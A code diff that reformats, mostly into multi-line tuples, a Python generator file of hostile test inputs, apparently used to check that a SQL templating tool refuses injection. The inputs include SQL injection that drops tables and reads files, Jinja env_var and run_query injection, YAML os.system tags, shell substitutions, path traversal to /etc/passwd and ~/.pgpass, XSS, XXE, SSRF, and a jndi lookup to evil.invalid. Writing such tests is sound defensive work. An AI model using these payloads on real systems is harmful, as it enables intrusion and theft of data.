@@ -85,7 +85,7 @@ DROPS = f'open_door"; drop table {TABLE}; --'
 WRITES_THE_FILE = f"open_door\"; copy (select 'x') to '{FILE}'; --"
 READS_THE_FILE = f"c\") || pg_read_file('{FILE}') || max(\"c"
 READS_IT_IN_A_VALUE = f"' || (pg_read_file('{FILE}'))::regclass::text || '"
-READS_THE_TABLE = f"c\") || (select secret from {TABLE}) || max(\"c"
+READS_THE_TABLE = f'c") || (select secret from {TABLE}) || max("c'
 TELLS_THE_SECRET = f"{{{{ env_var('{VARIABLE}') }}}}"
 RUNS_A_QUERY = f"{{{{ run_query('delete from {TABLE}; commit') }}}}"
 ARMED = (
@@ -126,7 +126,25 @@ def _quotes() -> Iterator[str]:
         yield f"x{quote}"
         yield f"{quote} or 1=1"
         yield f"{quote}) or {quote}1{quote}={quote}1"
-    yield from ("\\", "\\\\", "a\\", "%", "%%", "_", "''''", "'||'", "\"||\"", "x' 'y", "')", "'))", "')))", '")', '"."', "']", "'::text")
+    yield from (
+        "\\",
+        "\\\\",
+        "a\\",
+        "%",
+        "%%",
+        "_",
+        "''''",
+        "'||'",
+        '"||"',
+        "x' 'y",
+        "')",
+        "'))",
+        "')))",
+        '")',
+        '"."',
+        "']",
+        "'::text",
+    )
 
 
 def _stacked() -> Iterator[str]:
@@ -154,7 +172,16 @@ def _calls() -> Iterator[str]:
         yield f'a") || {call} || max("a'
         yield f"array[{call}]"
         yield f"case when true then {call} end is null"
-    for name in ("pg_sleep", "PG_SLEEP", '"pg_sleep"', "pg_catalog.pg_sleep", "pg_sleep ", "pg_sleep\n", "pg_sleep/**/", "pg_sleep--\n"):
+    for name in (
+        "pg_sleep",
+        "PG_SLEEP",
+        '"pg_sleep"',
+        "pg_catalog.pg_sleep",
+        "pg_sleep ",
+        "pg_sleep\n",
+        "pg_sleep/**/",
+        "pg_sleep--\n",
+    ):
         yield f"{name}(30) is null"
     yield from (
         "comment = pg_sleep(30)", "fetch = pg_sleep(30)", "show = pg_sleep(30)", "rename(pg_sleep(30))",
@@ -167,7 +194,25 @@ def _calls() -> Iterator[str]:
 
 
 def _comments() -> Iterator[str]:
-    for mark in ("--", "-- ", "/*", "*/", "/**/", "/*! x */", "/* /* */", "#", "--\n", "--\r", "\\c", "\\! id", "/*+ x */", "{#", "#}", "{# x #}", "{#-"):
+    for mark in (
+        "--",
+        "-- ",
+        "/*",
+        "*/",
+        "/**/",
+        "/*! x */",
+        "/* /* */",
+        "#",
+        "--\n",
+        "--\r",
+        "\\c",
+        "\\! id",
+        "/*+ x */",
+        "{#",
+        "#}",
+        "{# x #}",
+        "{#-",
+    ):
         yield mark
         yield f"a = 1 {mark}"
         yield f"' {mark}"
@@ -186,15 +231,65 @@ def _dollars() -> Iterator[str]:
 
 
 def _strings() -> Iterator[str]:
-    for prefix, body in product(("E", "e", "U&", "u&", "B", "X", "N", "_utf8"), ("'\\''", "'x'", "'\\0027'", "'\\x27; --'", "''; delete from canary.gold; --'")):
+    for prefix, body in product(
+        ("E", "e", "U&", "u&", "B", "X", "N", "_utf8"),
+        ("'\\''", "'x'", "'\\0027'", "'\\x27; --'", "''; delete from canary.gold; --'"),
+    ):
         yield f"{prefix}{body}"
-    yield from ("U&'d!0061t!+000061' UESCAPE '!'", 'U&"gold" UESCAPE \'g\'', "'a'\n'b'", "'a' 'b'", "E'a'\n'\\''", "chr(39)", "\\047", "\\u0027", "&#39;", "%27", "%2527")
+    yield from (
+        "U&'d!0061t!+000061' UESCAPE '!'",
+        "U&\"gold\" UESCAPE 'g'",
+        "'a'\n'b'",
+        "'a' 'b'",
+        "E'a'\n'\\''",
+        "chr(39)",
+        "\\047",
+        "\\u0027",
+        "&#39;",
+        "%27",
+        "%2527",
+    )
 
 
 def _unicode() -> Iterator[str]:
-    yield from (f"{mark}; delete from {TABLE}" for mark in ("\uff07", "\u2018", "\u2019", "\u201b", "\u02b9", "\u02bb", "\u0301'", "\u05f3", "\ua78c"))
+    yield from (
+        f"{mark}; delete from {TABLE}"
+        for mark in ("\uff07", "\u2018", "\u2019", "\u201b", "\u02b9", "\u02bb", "\u0301'", "\u05f3", "\ua78c")
+    )
     yield from (f"x{space}or{space}1=1" for space in "\u00a0\u1680\u2003\u2028\u2029\u202f\u3000\ufeff\u200b\u180e\u0085")
-    yield from ("\uff53\uff45\uff4c\uff45\uff43\uff54 1", "\uff1b drop", "\uff0d\uff0d", "\u2014\u2014", "\uff1b\uff0d\uff0d", "\uff5b\uff5b 1 \uff5d\uff5d", "\uff1cscript\uff1e", "\uff0e\uff0e\uff0f", "\u212aelvin", "dele\u0442e", "\u017felect", "\u0130", "\u0131", "\u00df", "\ufb01", "\U0001f600", "\U0001d5ee = 1", "e\u0301", "\u00e9", "\u0645\u0631\u062d\u0628\u0627", "\u202egnp.exe", "\u2066x\u2069", "a\u034fb", "\ufffd", "\ufffe", "\uffff", "\U000fffff", "\u4e2d\u6587", "\u0e01\u0e33", "\u1100\u1161", "Z\u0351\u036b\u0343")
+    yield from (
+        "\uff53\uff45\uff4c\uff45\uff43\uff54 1",
+        "\uff1b drop",
+        "\uff0d\uff0d",
+        "\u2014\u2014",
+        "\uff1b\uff0d\uff0d",
+        "\uff5b\uff5b 1 \uff5d\uff5d",
+        "\uff1cscript\uff1e",
+        "\uff0e\uff0e\uff0f",
+        "\u212aelvin",
+        "dele\u0442e",
+        "\u017felect",
+        "\u0130",
+        "\u0131",
+        "\u00df",
+        "\ufb01",
+        "\U0001f600",
+        "\U0001d5ee = 1",
+        "e\u0301",
+        "\u00e9",
+        "\u0645\u0631\u062d\u0628\u0627",
+        "\u202egnp.exe",
+        "\u2066x\u2069",
+        "a\u034fb",
+        "\ufffd",
+        "\ufffe",
+        "\uffff",
+        "\U000fffff",
+        "\u4e2d\u6587",
+        "\u0e01\u0e33",
+        "\u1100\u1161",
+        "Z\u0351\u036b\u0343",
+    )
     yield from ("\ud800", "\udfff", "x\udc00y", "\ud83d")
 
 
@@ -203,7 +298,23 @@ def _control() -> Iterator[str]:
         yield chr(code)
         yield f"x{chr(code)}y"
         yield f"'{chr(code)}; delete from {TABLE}"
-    yield from ("\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "x\r\nLocation: http://evil.invalid", "x\r\n\r\n<html>", "x\nlevel=error forged", '"}\n{"level": "error", "message": "forged"}', "x%0d%0aSet-Cookie: a=b", "x\\r\\nforged", "\r\nready http://evil.invalid", "a\n\n\nb", "\t\t", "   ", " x", "x ", "")
+    yield from (
+        "\x1b[2J\x1b[31mred",
+        "\x1b]0;title\x07",
+        "x\r\nLocation: http://evil.invalid",
+        "x\r\n\r\n<html>",
+        "x\nlevel=error forged",
+        '"}\n{"level": "error", "message": "forged"}',
+        "x%0d%0aSet-Cookie: a=b",
+        "x\\r\\nforged",
+        "\r\nready http://evil.invalid",
+        "a\n\n\nb",
+        "\t\t",
+        "   ",
+        " x",
+        "x ",
+        "",
+    )
 
 
 def _jinja() -> Iterator[str]:
@@ -222,23 +333,266 @@ def _jinja() -> Iterator[str]:
 
 
 def _yaml() -> Iterator[str]:
-    yield from ("!!python/object/apply:os.system ['id']", "!!python/name:os.system", "!!python/module:os", "!!binary aGk=", "!!timestamp 2013-01-01", "!!set {a}", "!!int '7'", "!include /etc/passwd", "!vault x", "&a [x]", "*a", "<<: *a", "<<: {a: 1}", "? a", "- a", "a: b", "a: {b: c}", "{a: b}", "[a, b]", "[a", "{a", "| x", "|\n  x", "> x", "---", "--- x", "...", "%YAML 1.1", "%TAG ! x", "# x", "x # y", "'x", '"x', "null", "~", "true", "no", "on", "1e3", "0x1F", "0o17", "12:30", ".inf", ".nan", "2013-01-01", "=", "<<", "@x", "`x`", "x:", ": x", "\ttab", "- - -", "? x : y", "&a", "*", "!", "!!", "!!str", "x\n---\ny: z", "x\n...\n", "x\ndescription: y", "x: |\n  y\n  z", "x\nversion: 2\nsources: []", "'': ''", "- name: x\n  data_tests: [unique]", "x\nmodels:\n  - name: evil", "\\N", "\\u0000", "\\x41")
+    yield from (
+        "!!python/object/apply:os.system ['id']",
+        "!!python/name:os.system",
+        "!!python/module:os",
+        "!!binary aGk=",
+        "!!timestamp 2013-01-01",
+        "!!set {a}",
+        "!!int '7'",
+        "!include /etc/passwd",
+        "!vault x",
+        "&a [x]",
+        "*a",
+        "<<: *a",
+        "<<: {a: 1}",
+        "? a",
+        "- a",
+        "a: b",
+        "a: {b: c}",
+        "{a: b}",
+        "[a, b]",
+        "[a",
+        "{a",
+        "| x",
+        "|\n  x",
+        "> x",
+        "---",
+        "--- x",
+        "...",
+        "%YAML 1.1",
+        "%TAG ! x",
+        "# x",
+        "x # y",
+        "'x",
+        '"x',
+        "null",
+        "~",
+        "true",
+        "no",
+        "on",
+        "1e3",
+        "0x1F",
+        "0o17",
+        "12:30",
+        ".inf",
+        ".nan",
+        "2013-01-01",
+        "=",
+        "<<",
+        "@x",
+        "`x`",
+        "x:",
+        ": x",
+        "\ttab",
+        "- - -",
+        "? x : y",
+        "&a",
+        "*",
+        "!",
+        "!!",
+        "!!str",
+        "x\n---\ny: z",
+        "x\n...\n",
+        "x\ndescription: y",
+        "x: |\n  y\n  z",
+        "x\nversion: 2\nsources: []",
+        "'': ''",
+        "- name: x\n  data_tests: [unique]",
+        "x\nmodels:\n  - name: evil",
+        "\\N",
+        "\\u0000",
+        "\\x41",
+    )
 
 
 def _formats() -> Iterator[str]:
-    yield from ("{0}", "{}", "{0.__class__}", "{0.__class__.__init__.__globals__}", "{columns.__class__}", "{type}", "{measured}", "{columns}", "{!r}", "{0!r:>{1}}", "{x[y]}", "%s", "%d", "%n", "%(x)s", "%(request_id)s", "%(name)s", "%s%s%s%s", "%1$s", "%x%x%x", "%%(x)s", "%(", "%c", "%5000000s", "$x", "${x}", "${HOME}", "$HOME", "$(id)", "`id`", "; id", "| id", "& id", "&& id", "|| id", "\n id", "> /tmp/x", "$((1))", "!id", "~root", "*", "?", "[a-z]", "-x", "--help", "--profiles-dir=/tmp", "--vars={}", "-e", "%PATH%", "!x!", "^x", "%(ENV_HOME)s", "%ENV_HOME%")
+    yield from (
+        "{0}",
+        "{}",
+        "{0.__class__}",
+        "{0.__class__.__init__.__globals__}",
+        "{columns.__class__}",
+        "{type}",
+        "{measured}",
+        "{columns}",
+        "{!r}",
+        "{0!r:>{1}}",
+        "{x[y]}",
+        "%s",
+        "%d",
+        "%n",
+        "%(x)s",
+        "%(request_id)s",
+        "%(name)s",
+        "%s%s%s%s",
+        "%1$s",
+        "%x%x%x",
+        "%%(x)s",
+        "%(",
+        "%c",
+        "%5000000s",
+        "$x",
+        "${x}",
+        "${HOME}",
+        "$HOME",
+        "$(id)",
+        "`id`",
+        "; id",
+        "| id",
+        "& id",
+        "&& id",
+        "|| id",
+        "\n id",
+        "> /tmp/x",
+        "$((1))",
+        "!id",
+        "~root",
+        "*",
+        "?",
+        "[a-z]",
+        "-x",
+        "--help",
+        "--profiles-dir=/tmp",
+        "--vars={}",
+        "-e",
+        "%PATH%",
+        "!x!",
+        "^x",
+        "%(ENV_HOME)s",
+        "%ENV_HOME%",
+    )
 
 
 def _paths() -> Iterator[str]:
-    yield from (FILE, f"file://{FILE}", f"../../../../../../../..{FILE}", "..", ".", "../", "./x", "../api-key", "../../api-key", "..\\..\\x", "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/", "%252e%252e%252f", "..;/", "/etc/passwd", "/proc/self/environ", "/dev/null", "/dev/zero", "~/.pgpass", "C:\\x", "\\\\host\\x", "x/../../y", "x/./y", "//x", "x//y", "/", "x/", "file.yml\x00.txt", ".work", ".git/config", "portal.json", "target/manifest.json", "x?y=z", "x#y", "x;y", "x%00y", "..\x00/", "public.../x", "con", "nul", "a" * 300 + "/x")
+    yield from (
+        FILE,
+        f"file://{FILE}",
+        f"../../../../../../../..{FILE}",
+        "..",
+        ".",
+        "../",
+        "./x",
+        "../api-key",
+        "../../api-key",
+        "..\\..\\x",
+        "....//....//etc/passwd",
+        "..%2f..%2fetc%2fpasswd",
+        "%2e%2e/",
+        "%252e%252e%252f",
+        "..;/",
+        "/etc/passwd",
+        "/proc/self/environ",
+        "/dev/null",
+        "/dev/zero",
+        "~/.pgpass",
+        "C:\\x",
+        "\\\\host\\x",
+        "x/../../y",
+        "x/./y",
+        "//x",
+        "x//y",
+        "/",
+        "x/",
+        "file.yml\x00.txt",
+        ".work",
+        ".git/config",
+        "portal.json",
+        "target/manifest.json",
+        "x?y=z",
+        "x#y",
+        "x;y",
+        "x%00y",
+        "..\x00/",
+        "public.../x",
+        "con",
+        "nul",
+        "a" * 300 + "/x",
+    )
 
 
 def _html() -> Iterator[str]:
-    yield from ("<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "[x](javascript:alert(1))", "![x](http://evil.invalid/x.png)", "<style>*{display:none}</style>", "<base href=http://evil.invalid/>", "<meta http-equiv=refresh content='0;url=http://evil.invalid'>", "<form action=http://evil.invalid>", "\"><script>alert(1)</script>", "'-alert(1)-'", "</title>", "<!--", "-->", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "&lt;b&gt;", "&amp;", "&#x3c;", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "http://169.254.169.254/latest/meta-data", "http://127.0.0.1:22/", "gopher://x", "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "ng-app", "<div ng-include=\"'x'\">", "\"onmouseover=alert(1) ", "</textarea>", "<x>", "\\u003cscript\\u003e", "__proto__", "constructor", "toString", "=cmd|' /C calc'!A0", "+1", "@SUM(1)", "${jndi:ldap://evil.invalid/x}", "() { :; }; id", "| table |\n| --- |", "`code`", "**bold**", "# head", "1. x", "> quote")
+    yield from (
+        "<script>alert(1)</script>",
+        "</script><script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)>",
+        "<iframe src=javascript:alert(1)>",
+        "<a href=javascript:alert(1)>x</a>",
+        "[x](javascript:alert(1))",
+        "![x](http://evil.invalid/x.png)",
+        "<style>*{display:none}</style>",
+        "<base href=http://evil.invalid/>",
+        "<meta http-equiv=refresh content='0;url=http://evil.invalid'>",
+        "<form action=http://evil.invalid>",
+        '"><script>alert(1)</script>',
+        "'-alert(1)-'",
+        "</title>",
+        "<!--",
+        "-->",
+        "<![CDATA[x]]>",
+        "<?xml version='1.0'?>",
+        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
+        "&lt;b&gt;",
+        "&amp;",
+        "&#x3c;",
+        "javascript:alert(1)",
+        "data:text/html,<script>alert(1)</script>",
+        "http://169.254.169.254/latest/meta-data",
+        "http://127.0.0.1:22/",
+        "gopher://x",
+        "{{constructor.constructor('alert(1)')()}}",
+        "{{$on.constructor('alert(1)')()}}",
+        "ng-app",
+        "<div ng-include=\"'x'\">",
+        '"onmouseover=alert(1) ',
+        "</textarea>",
+        "<x>",
+        "\\u003cscript\\u003e",
+        "__proto__",
+        "constructor",
+        "toString",
+        "=cmd|' /C calc'!A0",
+        "+1",
+        "@SUM(1)",
+        "${jndi:ldap://evil.invalid/x}",
+        "() { :; }; id",
+        "| table |\n| --- |",
+        "`code`",
+        "**bold**",
+        "# head",
+        "1. x",
+        "> quote",
+    )
 
 
 def _json() -> Iterator[str]:
-    yield from ('"', '\\"', '", "x": "', '"}', '{"a": 1}', "[1]", "null", '{"relation": "canary.gold"}', '{"format": "stringx-gate/1"}', '{"sqlstate": "00000"}', '"]}', "\\", "\\u0022", "/*x*/", "NaN", "Infinity", "-0", "1e999", "9" * 400, "0.1" + "0" * 300, "true", "[" * 100, '{"a":' * 100)
+    yield from (
+        '"',
+        '\\"',
+        '", "x": "',
+        '"}',
+        '{"a": 1}',
+        "[1]",
+        "null",
+        '{"relation": "canary.gold"}',
+        '{"format": "stringx-gate/1"}',
+        '{"sqlstate": "00000"}',
+        '"]}',
+        "\\",
+        "\\u0022",
+        "/*x*/",
+        "NaN",
+        "Infinity",
+        "-0",
+        "1e999",
+        "9" * 400,
+        "0.1" + "0" * 300,
+        "true",
+        "[" * 100,
+        '{"a":' * 100,
+    )
 
 
 def _long() -> Iterator[str]:
